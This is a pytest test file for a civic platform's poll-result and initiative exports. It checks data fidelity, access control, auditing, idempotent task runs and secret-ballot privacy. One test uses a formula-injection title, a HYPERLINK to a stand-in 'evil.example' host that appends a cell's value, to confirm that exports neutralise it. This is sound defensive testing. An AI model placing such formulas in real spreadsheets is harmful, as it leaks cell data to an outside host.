"""Exports of poll results and initiative lists: content equals the database, safe cells,
who may export, audit entries, and a task that may run twice."""

import csv
import io
import json
from pathlib import Path

import pytest
from django.db.models import Count

from audit.models import AuditEntry
from civic.errors import Conflict, Forbidden, InvalidInput, NotAuthenticated, NotFound
from communities.models import Initiative
from dashboard.models import Export
from dashboard.services import export_create, export_run
from dashboard.tasks import run_export
from polls.models import Ballot, BallotChoice, Poll
from polls.services import event_codes_generate, poll_close, vote_cast
from tests.factories import (
    ModeratorFactory,
    UserFactory,
    choice_ids,
    district,
    make_initiative,
    make_poll,
)

pytestmark = pytest.mark.django_db

BOM = "\ufeff"


@pytest.fixture
def export(django_capture_on_commit_callbacks, official):
    """Request an export and let the (eager) Celery task make it after commit."""

    def make(**kwargs):
        with django_capture_on_commit_callbacks(execute=True):
            created = export_create(actor=kwargs.pop("actor", official), **kwargs)
        created.refresh_from_db()
        assert created.state == Export.State.DONE, created.error
        assert created.progress == 100
        return created

    return make


def _text(export: Export) -> str:
    with export.file.open("rb") as f:
        return f.read().decode("utf-8")


def _csv(export: Export) -> list[list[str]]:
    text = _text(export)
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM))))


def _voted_poll(official):
    poll = make_poll(official=official, kind="multiple", max_choices=2, ballot_mode="both")
    a, b, c = choice_ids(poll)
    almaly, medeu = district("almaly"), district("medeu")
    for voter, pick in (
        (UserFactory(district=almaly), [a, b]),
        (UserFactory(district=almaly), [a]),
        (UserFactory(district=medeu), [c]),
        (UserFactory(), [b, c]),
    ):
        vote_cast(poll_id=poll.pk, choice_ids=pick, user=voter)
    code = event_codes_generate(actor=official, poll_id=poll.pk, count=1)[0].code
    vote_cast(poll_id=poll.pk, choice_ids=[a], code=code)
    return poll


def _database_tallies(poll: Poll) -> dict:
    """What the database's ballot rows say, counted independently of the counters."""
    per_choice = dict(
        BallotChoice.objects.filter(poll=poll).values_list("choice").annotate(n=Count("pk"))
    )
    ballots = Ballot.objects.filter(poll=poll)
    per_district = dict(
        ballots.filter(voter__isnull=False)
        .values_list("voter__district__slug")
        .annotate(n=Count("pk"))
    )
    return {
        "total": ballots.count(),
        "choices": {c: per_choice.get(c, 0) for c in choice_ids(poll)},
        "districts": per_district,
        "guests": ballots.filter(code__isnull=False).count(),
    }


def test_poll_results_csv_equals_the_database(export, official):
    poll = _voted_poll(official)

    made = export(kind="poll_results", format="csv", poll_id=poll.pk)

    header, *rows = _csv(made)
    assert header == ["section", "id", "label_kk", "label_ru", "label_en", "votes"]
    truth = _database_tallies(poll)
    total = [r for r in rows if r[0] == "total"]
    assert total == [
        ["total", str(poll.pk), poll.title_kk, poll.title_ru, poll.title_en, str(truth["total"])]
    ]
    choices = {int(r[1]): int(r[5]) for r in rows if r[0] == "choice"}
    assert choices == truth["choices"]
    assert next(r[2:5] for r in rows if r[0] == "choice") == ["Таңдау 1", "Вариант 1", "Choice 1"]
    districts = {r[1]: int(r[5]) for r in rows if r[0] == "district"}
    assert districts["almaly"] == truth["districts"]["almaly"] == 2
    assert districts["medeu"] == truth["districts"]["medeu"] == 1
    assert districts[""] == truth["districts"][None] == 1
    assert districts["guests"] == truth["guests"] == 1
    assert sum(districts.values()) == truth["total"]
    assert made.rows == len(rows)
    assert made.file.name.endswith(".csv") and made.finished_at is not None


def test_poll_results_json_equals_the_database(export, official):
    poll = _voted_poll(official)

    made = export(kind="poll_results", format="json", poll_id=poll.pk)

    rows = json.loads(_text(made))
    truth = _database_tallies(poll)
    assert rows[0] == {
        "section": "total",
        "id": poll.pk,
        "label_kk": poll.title_kk,
        "label_ru": poll.title_ru,
        "label_en": poll.title_en,
        "votes": truth["total"],
    }
    assert {r["id"]: r["votes"] for r in rows if r["section"] == "choice"} == truth["choices"]
    districts = {r["id"]: r["votes"] for r in rows if r["section"] == "district"}
    assert districts["almaly"] == 2 and districts["medeu"] == 1
    assert districts[""] == 1 and districts["guests"] == 1
    assert made.rows == len(rows)


def _xlsx_rows(made) -> list[list]:
    """The first sheet's cells, read straight from the file's XML (strings and numbers)."""
    import zipfile
    from xml.etree import ElementTree

    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    made.file.open("rb")
    with zipfile.ZipFile(made.file) as book:
        # Our own export, not untrusted input.
        shared = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))  # noqa: S314
        strings = [
            "".join(t.text or "" for t in si.iter(f"{{{ns['m']}}}t"))
            for si in shared.findall("m:si", ns)
        ]
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314
    made.file.close()
    rows = []
    for row in sheet.iter(f"{{{ns['m']}}}row"):
        cells: dict[int, object] = {}
        for cell in row.findall("m:c", ns):
            assert cell.find("m:f", ns) is None, "no formulas in an export"
            letters = "".join(ch for ch in cell.get("r") if ch.isalpha())
            column = sum((ord(ch) - 64) * 26**i for i, ch in enumerate(reversed(letters))) - 1
            value = cell.find("m:v", ns)
            if cell.get("t") == "s":
                cells[column] = strings[int(value.text)]
            else:
                cells[column] = float(value.text) if value is not None else None
        # An empty string is written as no cell at all.
        rows.append([cells.get(i, "") for i in range(max(cells, default=-1) + 1)])
    return rows


def test_poll_results_xlsx_equals_the_database(export, official):
    poll = _voted_poll(official)

    made = export(kind="poll_results", format="xlsx", poll_id=poll.pk)

    header, *rows = _xlsx_rows(made)
    assert header == ["section", "id", "label_kk", "label_ru", "label_en", "votes"]
    truth = _database_tallies(poll)
    assert rows[0] == [
        "total",
        poll.pk,
        poll.title_kk,
        poll.title_ru,
        poll.title_en,
        truth["total"],
    ]
    assert {int(r[1]): r[5] for r in rows if r[0] == "choice"} == truth["choices"]
    districts = {r[1]: r[5] for r in rows if r[0] == "district"}
    assert districts["almaly"] == 2 and districts["medeu"] == 1 and districts["guests"] == 1
    assert made.file.name.endswith(".xlsx") and made.rows == len(rows)


def test_initiatives_export_holds_exactly_the_filtered_initiatives(export):
    almaly, medeu = district("almaly"), district("medeu")
    wanted = [
        make_initiative(status="submitted", category="transport", district_id=almaly.pk),
        make_initiative(status="submitted", category="transport", district_id=almaly.pk),
    ]
    make_initiative(status="submitted", category="transport", district_id=medeu.pk)
    make_initiative(status="submitted", category="ecology", district_id=almaly.pk)
    make_initiative(status="under_review", category="transport", district_id=almaly.pk)
    make_initiative(status="draft", category="transport", district_id=almaly.pk)
    filters = {"status": "submitted", "category": "transport", "district": str(almaly.pk)}

    made = export(kind="initiatives", format="csv", filters={**filters, "unknown": "x", "q": ""})

    header, *rows = _csv(made)
    assert header[:3] == ["id", "title", "community"]
    assert sorted(int(r[0]) for r in rows) == sorted(i.pk for i in wanted)
    by_id = {int(r[0]): dict(zip(header, r, strict=True)) for r in rows}
    first = Initiative.objects.get(pk=wanted[0].pk)
    assert by_id[first.pk]["status"] == "submitted"
    assert by_id[first.pk]["district"] == "almaly"
    assert by_id[first.pk]["community"] == first.community.name
    assert by_id[first.pk]["submitted_at"] == first.submitted_at.isoformat()
    assert made.filters == {"status": "submitted", "category": "transport", "district": almaly.pk}

    everything = export(kind="initiatives", format="json")
    ids = {row["id"] for row in json.loads(_text(everything))}
    assert ids == set(Initiative.objects.exclude(status="draft").values_list("pk", flat=True))
    assert len(ids) == 5


def test_formula_like_text_is_written_as_text(export):
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
    initiative = make_initiative(title=formula)

    rows = _csv(export(kind="initiatives", format="csv"))

    row = next(r for r in rows[1:] if int(r[0]) == initiative.pk)
    assert row[1] == "'" + formula
    assert not any(cell[:1] in ("=", "+", "-", "@") for r in rows for cell in r)
    # In XLSX the cell is a text cell (no formula), holding the title as typed.
    sheet = _xlsx_rows(export(kind="initiatives", format="xlsx"))
    assert next(r for r in sheet[1:] if r[0] == initiative.pk)[1] == formula
    # JSON is data, not a spreadsheet: the title is kept as it is.
    items = json.loads(_text(export(kind="initiatives", format="json")))
    assert next(i for i in items if i["id"] == initiative.pk)["title"] == formula


@pytest.mark.parametrize("who", ["moderator", "citizen", "anonymous"])
def test_only_officials_export(who, django_capture_on_commit_callbacks):
    from django.contrib.auth.models import AnonymousUser

    actor = {
        "moderator": ModeratorFactory,
        "citizen": UserFactory,
        "anonymous": AnonymousUser,
    }[who]()
    poll = make_poll()
    expected = NotAuthenticated if who == "anonymous" else Forbidden
    with django_capture_on_commit_callbacks(execute=True), pytest.raises(expected):
        export_create(actor=actor, kind="poll_results", format="csv", poll_id=poll.pk)
    with pytest.raises(expected):
        export_create(actor=actor, kind="initiatives", format="json")
    assert not Export.objects.exists()
    assert not AuditEntry.objects.filter(action="export.create").exists()


def test_hidden_results_of_an_open_poll_cannot_be_exported(export, official):
    poll = make_poll(official=official, results_visibility=Poll.Visibility.HIDDEN)
    vote_cast(poll_id=poll.pk, choice_ids=choice_ids(poll)[:1], user=UserFactory())
    with pytest.raises(Conflict):
        export_create(actor=official, kind="poll_results", format="csv", poll_id=poll.pk)
    assert not Export.objects.exists()

    poll_close(actor=official, poll_id=poll.pk)
    rows = _csv(export(kind="poll_results", format="csv", poll_id=poll.pk))
    assert rows[1][0] == "total" and rows[1][5] == "1"


@pytest.mark.parametrize(
    ("kwargs", "error"),
    [
        ({"kind": "ballots", "format": "csv"}, InvalidInput),
        ({"kind": "initiatives", "format": "pdf"}, InvalidInput),
        ({"kind": "initiatives", "format": "csv", "filters": {"status": "lost"}}, InvalidInput),
        ({"kind": "initiatives", "format": "csv", "filters": {"category": "x"}}, InvalidInput),
        ({"kind": "initiatives", "format": "csv", "filters": {"district": "x"}}, InvalidInput),
        ({"kind": "poll_results", "format": "csv", "poll_id": 999999}, NotFound),
        ({"kind": "poll_results", "format": "csv", "poll_id": None}, NotFound),
        ({"kind": "poll_results", "format": "csv", "poll_id": "1x"}, NotFound),
    ],
)
def test_unknown_input_is_refused(official, kwargs, error):
    with pytest.raises(error):
        export_create(actor=official, **kwargs)
    assert not Export.objects.exists()


def test_every_export_is_audited_with_its_actor(export, official):
    poll = make_poll(official=official)
    first = export(kind="poll_results", format="csv", poll_id=poll.pk)
    second = export(kind="initiatives", format="json", filters={"status": "submitted"})

    entries = AuditEntry.objects.filter(action="export.create").order_by("pk")

    assert [(e.actor_id, e.target_type, e.target_id) for e in entries] == [
        (official.pk, "dashboard.export", str(first.pk)),
        (official.pk, "dashboard.export", str(second.pk)),
    ]
    assert entries[0].data == {
        "kind": "poll_results",
        "format": "csv",
        "poll": poll.pk,
        "filters": {},
    }
    assert entries[1].data["filters"] == {"status": "submitted"}


def test_running_an_export_twice_is_harmless(export, official):
    poll = _voted_poll(official)
    made = export(kind="poll_results", format="csv", poll_id=poll.pk)
    name, content = made.file.name, _text(made)
    storage_dir = made.file.storage.path("exports")
    files_before = sorted(p.name for p in Path(storage_dir).iterdir())

    again = export_run(export_id=made.pk)
    run_export(made.pk)
    run_export.delay(made.pk)

    again.refresh_from_db()
    assert (again.state, again.file.name, again.rows) == (Export.State.DONE, name, made.rows)
    assert _text(again) == content
    files_after = sorted(p.name for p in Path(storage_dir).iterdir())
    assert files_after == files_before
    assert AuditEntry.objects.filter(action="export.create").count() == 1


def test_a_secret_ballot_export_has_totals_only(export, official):
    poll = make_poll(official=official, secret_ballot=True)
    a, b, _c = choice_ids(poll)
    voters = [
        UserFactory(district=district("medeu"), email="secret.voter@example.kz"),
        UserFactory(district=district("almaly"), display_name="Secret Voter"),
        UserFactory(),
    ]
    for voter, pick in zip(voters, ([a], [b], [a]), strict=True):
        vote_cast(poll_id=poll.pk, choice_ids=pick, user=voter)

    for fmt in ("csv", "json"):
        made = export(kind="poll_results", format=fmt, poll_id=poll.pk)
        text = _text(made)
        assert "secret.voter" not in text and "Secret Voter" not in text
        if fmt == "csv":
            sections = [row[0] for row in _csv(made)[1:]]
            votes = [int(row[5]) for row in _csv(made)[1:]]
        else:
            items = json.loads(text)
            sections = [row["section"] for row in items]
            votes = [row["votes"] for row in items]
        assert sections == ["total", "choice", "choice", "choice"]
        assert votes == [3, 2, 1, 0]
        assert made.rows == 4
